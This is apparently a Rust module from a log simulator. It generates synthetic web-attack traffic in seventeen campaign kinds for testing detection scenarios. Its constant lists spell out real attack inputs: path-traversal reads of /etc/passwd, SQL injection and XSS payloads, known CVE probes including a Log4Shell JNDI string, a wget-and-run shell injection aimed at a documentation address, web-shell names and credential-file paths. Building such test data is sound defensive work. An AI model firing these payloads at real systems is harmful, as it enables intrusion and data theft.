//! Attacks on web sites: seventeen kinds of campaigns.
//!
//! A plan's number of lines and its pace are chosen so that a complete campaign must set off the
//! scenarios that it names, whatever chance adds to its gaps.

use crate::actor::{Actor, Message, Plan, Request, Spread, Step, World};
use crate::time::Micros;
use crate::vocabulary::{BAD_AGENTS, SITES, WORDS};

use Spread::{Network, Scattered, Single};

const fn plan(
    kind: &'static str,
    scenarios: &'static [&'static str],
    lines: (u64, u64),
    gap_ms: (u64, u64),
    spread: Spread,
) -> Plan {
    Plan {
        kind,
        scenarios,
        lines,
        gap_ms,
        spread,
    }
}

/// All kinds of attacks on web sites.
pub(crate) const PLANS: [Plan; 17] = [
    plan(
        "probing",
        &["overspill/http-probing"],
        (18, 45),
        (80, 700),
        Single,
    ),
    plan(
        "sensitive-files",
        &["overspill/http-sensitive-files"],
        (7, 16),
        (150, 900),
        Single,
    ),
    plan(
        "admin-interfaces",
        &["overspill/http-admin-probing"],
        (6, 12),
        (200, 1500),
        Single,
    ),
    plan(
        "path-traversal",
        &["overspill/http-path-traversal"],
        (6, 12),
        (400, 2500),
        Single,
    ),
    plan(
        "sqli",
        &["overspill/http-sqli-probing"],
        (8, 20),
        (200, 1200),
        Single,
    ),
    plan(
        "xss",
        &["overspill/http-xss-probing"],
        (8, 16),
        (200, 1200),
        Single,
    ),
    plan(
        "bad-user-agent",
        &["overspill/http-bad-user-agent"],
        (5, 40),
        (100, 1500),
        Single,
    ),
    plan(
        "crawling",
        &["overspill/http-crawl"],
        (90, 140),
        (40, 250),
        Single,
    ),
    plan(
        "login-bruteforce",
        &["overspill/http-login-bf"],
        (10, 40),
        (200, 1800),
        Single,
    ),
    plan(
        "wordpress-bruteforce",
        &["overspill/http-login-bf"],
        (10, 40),
        (200, 1800),
        Single,
    ),
    plan(
        "wordpress-scan",
        &["overspill/http-wordpress-scan"],
        (6, 12),
        (200, 1500),
        Single,
    ),
    plan(
        "backdoors",
        &["overspill/http-backdoor-probing"],
        (4, 10),
        (300, 2000),
        Single,
    ),
    plan(
        "cve",
        &["overspill/http-cve-probing"],
        (2, 7),
        (300, 4000),
        Single,
    ),
    plan(
        "open-proxy",
        &["overspill/http-open-proxy"],
        (5, 10),
        (300, 3000),
        Single,
    ),
    plan("garbage", &[], (6, 20), (100, 2000), Single),
    plan(
        "credential-stuffing",
        &["overspill/credential-stuffing"],
        (16, 24),
        (500, 3500),
        Scattered,
    ),
    plan(
        "distributed-bruteforce",
        &["overspill/distributed-range-bf"],
        (18, 36),
        (800, 4000),
        Network,
    ),
];

const PROBES: [&str; 16] = [
    "/test.php",
    "/old/index.php",
    "/api/v2/debug",
    "/console/",
    "/backup/",
    "/status.jsp",
    "/cgi-bin/test",
    "/new/",
    "/dev/",
    "/staging/",
    "/tmp/",
    "/debug/default/view",
    "/trace.axd",
    "/api/swagger.json",
    "/graphql",
    "/health.php",
];
const SENSITIVE: [&str; 16] = [
    "/.env",
    "/.git/config",
    "/backup.sql",
    "/.aws/credentials",
    "/wp-config.php.bak",
    "/.htpasswd",
    "/db.sql.gz",
    "/id_rsa",
    "/.git/HEAD",
    "/phpinfo.php",
    "/.DS_Store",
    "/dump.sql",
    "/.svn/entries",
    "/docker-compose.yml",
    "/.bash_history",
    "/actuator/heapdump",
];
const ADMIN: [&str; 12] = [
    "/phpmyadmin/index.php",
    "/admin/login.php",
    "/administrator/index.php",
    "/pma/index.php",
    "/manager/html",
    "/adminer.php",
    "/phpMyAdmin-4.9/index.php",
    "/webadmin/",
    "/cpanel",
    "/solr/admin/info/system",
    "/jenkins/login",
    "/cgi-bin/luci",
];
const TRAVERSALS: [&str; 8] = [
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2fetc/passwd",
    "/img/../../../etc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/download?file=../../../../etc/hosts",
    "/..%252f..%252f..%252fwindows/win.ini",
    "/icons/%2e%2e%2f%2e%2e%2fboot.ini",
    "/view.php?page=....//....//etc/passwd",
];
const SQLI: [&str; 7] = [
    "id=1%27%20union%20select%201,2,{}--+",
    "q=1%20union%20all%20select%20null,null,{}",
    "id={}%20and%20sleep(5)",
    "cat=-{}%20UNION%20SELECT%20table_name%20from%20information_schema.tables",
    "u=admin%27%20or%20{}=benchmark%28100000,md5(1))",
    "f=load_file%280x2f65,{})",
    "s={}%27%20AND%201=1--",
];
const XSS: [&str; 5] = [
    "q=<script>alert({})</script>",
    "n=%3Cscript%3Ealert({})",
    "v=javascript:alert({})",
    "t=<img%20src=x%20onerror=prompt({})>",
    "p=<svg/onload=confirm({})>",
];
const WORDPRESS: [&str; 8] = [
    "/wp-login.php",
    "/wp-includes/wlwmanifest.xml",
    "/xmlrpc.php",
    "/wp-admin/setup-config.php",
    "/wp-content/plugins/hello.php",
    "/blog/wp-login.php",
    "/wp-json/wp/v2/users/1",
    "/wordpress/wp-admin/",
];
const BACKDOORS: [&str; 10] = [
    "c99.php",
    "r57.php",
    "wso.php",
    "b374k.php",
    "alfa.php",
    "filesman.php",
    "shell.php",
    "cmd.php",
    "c99shell.php",
    "webshell.php",
];
const EXPLOITS: [&str; 7] = [
    "/?x=${jndi:ldap://198.51.100.7:1389/{}}",
    "/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh?{}",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&v={}",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/{}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?{}",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession&{}",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.{}/x.sh",
];
const PROXY: [&str; 3] = [
    "CONNECT mail.example.com:25 HTTP/1.1",
    "GET http://api.example.com/ip HTTP/1.1",
    "CONNECT 203.0.113.80:443 HTTP/1.1",
];

/// One campaign against web sites.
#[derive(Debug)]
pub(crate) struct WebAttack {
    plan: &'static Plan,
    campaign: usize,
    addresses: Vec<String>,
    agent: String,
    site: &'static str,
    user: &'static str,
    word: &'static str,
    /// Where in its lists this campaign begins.
    offset: u64,
    sent: u64,
    planned: u64,
}

impl WebAttack {
    pub(crate) fn new(world: &mut World, plan: &'static Plan) -> WebAttack {
        let stuffing = plan.spread == Scattered;
        let user = if stuffing { world.next_victim() } else { "-" };
        let (campaign, addresses) = world.open(plan, stuffing.then_some(user));
        let planned = world.campaigns[campaign].planned;
        let word = *world.rng.pick(&WORDS);
        WebAttack {
            plan,
            campaign,
            agent: world.vocabulary.agent(&addresses[0]),
            addresses,
            site: SITES[world.rng.skewed(3)],
            user,
            word,
            offset: world.rng.below(1000),
            sent: 0,
            planned,
        }
    }

    /// Request line, status and size of the next request.
    #[expect(
        clippy::too_many_lines,
        reason = "one flat match, a line or two for each kind"
    )]
    fn request(&self, world: &mut World) -> (String, u64, u64) {
        let n = self.offset + self.sent;
        let word = self.word;
        let get = |path: &str| format!("GET {path} HTTP/1.1");
        let item = |list: &[&'static str]| list[(n % list.len() as u64) as usize];
        // Lists are shorter than campaigns; the second round hunts in a folder.
        let folder = |round: usize| match self.sent / round as u64 {
            0 => String::new(),
            again => format!("/{word}{again}"),
        };
        match self.plan.kind {
            "probing" => {
                let line = get(&format!("/{word}{n}{}", item(&PROBES)));
                (line, *world.rng.pick(&[404, 404, 404, 403]), 153)
            }
            "sensitive-files" => {
                let line = get(&format!("{}{}", folder(SENSITIVE.len()), item(&SENSITIVE)));
                (line, 404, 153)
            }
            "admin-interfaces" => {
                let line = get(&format!("{}{}", folder(ADMIN.len()), item(&ADMIN)));
                (line, *world.rng.pick(&[404, 404, 403]), 153)
            }
            "path-traversal" => {
                let line = get(&format!(
                    "{}{}",
                    folder(TRAVERSALS.len()),
                    item(&TRAVERSALS)
                ));
                (line, *world.rng.pick(&[400, 404, 403]), 157)
            }
            "sqli" => {
                let args = item(&SQLI).replace("{}", &n.to_string());
                let line = get(&format!("/{word}/view?{args}"));
                (
                    line,
                    *world.rng.pick(&[200, 500, 403]),
                    world.rng.range(200, 9000),
                )
            }
            "xss" => {
                let args = item(&XSS).replace("{}", &n.to_string());
                (
                    get(&format!("/search?{args}")),
                    200,
                    world.rng.range(900, 9000),
                )
            }
            "bad-user-agent" => {
                let path = world.rng.pick(&world.vocabulary.pages).clone();
                (
                    get(&path),
                    *world.rng.pick(&[200, 404]),
                    world.rng.range(150, 9000),
                )
            }
            "crawling" => {
                let line = get(&format!("/catalog/{word}/{n}"));
                (line, 200, world.rng.range(900, 60_000))
            }
            "login-bruteforce" => ("POST /admin/login HTTP/1.1".to_owned(), 401, 410),
            "wordpress-bruteforce" => ("POST /wp-login.php HTTP/1.1".to_owned(), 200, 2913),
            "wordpress-scan" => (
                get(&format!("{}{}", folder(WORDPRESS.len()), item(&WORDPRESS))),
                404,
                153,
            ),
            "backdoors" => (get(&format!("/{word}/{}", item(&BACKDOORS))), 404, 153),
            "cve" => {
                let path = item(&EXPLOITS).replace("{}", &(n % 254).to_string());
                (get(&path), *world.rng.pick(&[404, 400]), 157)
            }
            "open-proxy" => (item(&PROXY).to_owned(), *world.rng.pick(&[400, 405]), 166),
            "garbage" => {
                let bytes = world.rng.below(1 << 16);
                (
                    format!("\\x16\\x03\\x01\\x{:02X}\\x{:02X}", bytes >> 8, bytes & 255),
                    400,
                    157,
                )
            }
            "credential-stuffing" => (get("/account"), 401, 179),
            _ => ("POST /login HTTP/1.1".to_owned(), 401, 410),
        }
    }
}

impl Actor for WebAttack {
    fn step(&mut self, world: &mut World, _now: Micros) -> Step {
        let (line, status, bytes) = self.request(world);
        let agent = match self.plan.kind {
            "bad-user-agent" => BAD_AGENTS[(self.offset % BAD_AGENTS.len() as u64) as usize],
            "garbage" => "-",
            _ => &self.agent,
        };
        let address = &self.addresses[(self.sent % self.addresses.len() as u64) as usize];
        let request = Request {
            address: address.clone(),
            user: self.user,
            line,
            status,
            bytes,
            referer: "-".to_owned(),
            agent: agent.to_owned(),
            site: self.site,
        };
        // Each request goes to another node, so no single one sees the whole attack.
        let route = self.offset + self.sent;
        self.sent += 1;
        let next_in = (self.sent < self.planned).then(|| world.gap(self.plan.gap_ms));
        Step {
            campaign: Some(self.campaign),
            ..Step::say(Message::Web(request), route, next_in)
        }
    }
}
